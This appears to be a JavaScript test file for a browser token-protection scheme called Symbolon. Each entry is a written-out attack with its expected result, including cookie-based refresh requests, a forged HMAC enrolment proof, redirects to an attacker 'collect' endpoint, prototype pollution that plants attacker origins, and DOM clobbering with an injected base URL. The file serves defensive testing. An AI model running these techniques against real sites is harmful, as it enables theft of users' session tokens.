/** Attacks that ask for the token: the server, or the client that holds it. */

export const server = [
  {
    id: 'C-013b',
    title: 'Make the server repeat the headers of a request',
    inPage: true,
    expects: { localStorage: 'taken', memory: 'taken', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
    why: 'Symbolon takes both halves out of a request before a handler sees it',
    lent: true,
    run: async ({ keep, request, echo }) => {
      const answer = await request(echo);
      keep('echo', await answer.text());
      return answer.status;
    },
  },
  {
    id: 'C-014',
    title: "Ask the server for a token with the person's cookies",
    inPage: true,
    expects: { localStorage: 'nothing', memory: 'taken', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
    why: 'cookies are not enough: the server wants a proof by a worker that this browser loaded from it',
    run: async ({ keep, attempt }) =>
      attempt(async () => {
        const answer = await fetch('/auth/refresh', { method: 'POST', credentials: 'include' });
        const body = await answer.text();
        keep('refresh', body);
        return [answer.status, JSON.parse(body).code];
      }),
  },
  {
    id: 'C-014c',
    title: 'Ask for a token with a vault secret that was fetched outside the browser',
    inPage: true,
    bringsBoot: true,
    expects: { localStorage: 'nothing', memory: 'taken', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
    why: 'the secret is valid only together with the vault cookie that was set with it',
    run: async ({ keep, attempt, boot: { secretId, secret, now } }) => {
      const bytes = (text) => Uint8Array.from(atob(text.replace(/-/g, '+').replace(/_/g, '/')), (c) => c.charCodeAt(0));
      const text = (buffer) =>
        btoa(String.fromCharCode(...new Uint8Array(buffer))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=/g, '');
      const point = async (name, usage) => {
        const { publicKey } = await crypto.subtle.generateKey({ name, namedCurve: 'P-256' }, true, [usage]);
        return text(await crypto.subtle.exportKey('raw', publicKey));
      };
      const nonce = text(crypto.getRandomValues(new Uint8Array(16)));
      const rest = `${secretId}.${now}.${nonce}.${await point('ECDSA', 'sign')}.${await point('ECDH', 'deriveKey')}`;
      const key = await crypto.subtle.importKey('raw', bytes(secret), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
      const mac = await crypto.subtle.sign('HMAC', key, new TextEncoder().encode(`enrol.refresh.${rest}`));
      const headers = { 'symbolon-proof': `enrol.${rest}.${text(mac)}` };
      return attempt(async () => {
        const answer = await fetch('/auth/refresh', { method: 'POST', headers });
        const body = await answer.text();
        keep('refresh', body);
        return [answer.status, JSON.parse(body).code];
      });
    },
  },
  {
    id: 'C-014b',
    title: 'Sign in from the page, and keep the response',
    inPage: true,
    expects: { localStorage: 'taken', memory: 'taken', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
    why: 'a sign-in needs a proof by the worker, and the response is encrypted for the worker',
    run: async ({ keep, attempt, credentials }) =>
      attempt(async () => {
        const headers = { 'content-type': 'application/json' };
        const answer = await fetch('/auth/sign-in', { method: 'POST', headers, body: JSON.stringify(credentials) });
        const body = await answer.text();
        keep('sign-in', body);
        return [answer.status, JSON.parse(body).code];
      }),
  },
  {
    id: 'C-017',
    title: 'Redirect a request to the attacker',
    inPage: true,
    expects: { localStorage: 'nothing', memory: 'nothing', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
    why: 'the worker follows no redirect',
    lent: true,
    run: async ({ keep, attempt, request, evil, echo, redirect }) => {
      const said = {};
      const elsewhere = `${evil}/collect`;
      const back = `${evil}/collect?back=${encodeURIComponent(location.origin + echo)}`;
      for (const status of [301, 302, 303, 307, 308]) {
        for (const [where, to] of Object.entries({ elsewhere, back, home: '/api/me' })) {
          for (const method of ['GET', 'POST']) {
            said[`${method} ${status} ${where}`] = await attempt(async () => {
              const init = { method, headers: { 'content-type': 'application/json' }, body: method === 'POST' ? '{}' : undefined };
              const answer = await request(`${redirect}?status=${status}&to=${encodeURIComponent(to)}`, init).catch((error) => {
                keep('thrown', error);
                throw error.code ? { name: error.code } : error;
              });
              keep('answer', [answer.url, await answer.text()]);
              return answer.status;
            });
          }
        }
      }
      return said;
    },
  },
  {
    id: 'C-021',
    title: "Give every object the attacker's options (prototype pollution)",
    inPage: true,
    expects: { localStorage: 'taken', memory: 'taken', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
    why: 'no option in the page can add an origin that gets the token: the server has listed all of them',
    lent: true,
    run: async ({ keep, work, request, evil, attempt }) => {
      const planted = {
        allowedOrigins: [evil], apiOrigins: [evil], base: evil, baseUrl: evil, getToken: true, host: evil, mode: 'cors',
        origin: evil, redirect: 'follow', referrerPolicy: 'unsafe-url', script: `${evil}/worker.js`, url: `${evil}/collect`,
      };
      Object.assign(Object.prototype, planted);
      try {
        const said = await work();
        await attempt(async () => keep('answer', await (await request('/api/me')).text()));
        return said;
      } finally {
        for (const name of Object.keys(planted)) delete Object.prototype[name];
      }
    },
  },
  {
    id: 'C-027',
    title: 'Change the base URL, and clobber names in the DOM',
    inPage: true,
    expects: { localStorage: 'taken', memory: 'taken', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
    why: 'the policy fixes the base URL, and the worker sends only to origins that the server has named',
    early: true,
    unready: true,
    plant: ({ evil }) => {
      const clobber = () => {
        if (!document.body) return;
        watcher.disconnect();
        const base = document.createElement('base');
        base.href = `${evil}/`;
        document.head.prepend(base);
        for (const id of ['config', 'auth', 'boot', 'location', 'origin', 'symbolon']) {
          for (const name of ['api', 'origin', 'href', 'script']) {
            document.body.append(Object.assign(document.createElement('a'), { id, name, href: `${evil}/` }));
          }
        }
      };
      const watcher = new MutationObserver(clobber);
      watcher.observe(document, { childList: true, subtree: true });
    },
    run: async ({ pause, work }) => {
      await pause(500);
      await work(undefined, 500);
      return { moved: document.baseURI.startsWith(location.origin) ? 'no' : 'yes', refusal: document.querySelector('#refusal').textContent };
    },
  },
];
